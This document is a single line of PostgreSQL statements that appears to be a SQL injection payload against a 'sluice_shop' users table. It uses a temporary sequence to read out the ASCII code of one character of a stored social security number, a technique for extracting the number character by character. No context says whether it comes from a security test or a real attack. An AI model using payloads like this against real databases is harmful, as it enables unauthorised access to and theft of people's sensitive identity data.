CREATE TEMP SEQUENCE sq; SELECT setval('sq', (SELECT ascii(substr(ssn,7,1)) FROM "sluice_shop"."users" WHERE id=1)); SELECT last_value FROM sq
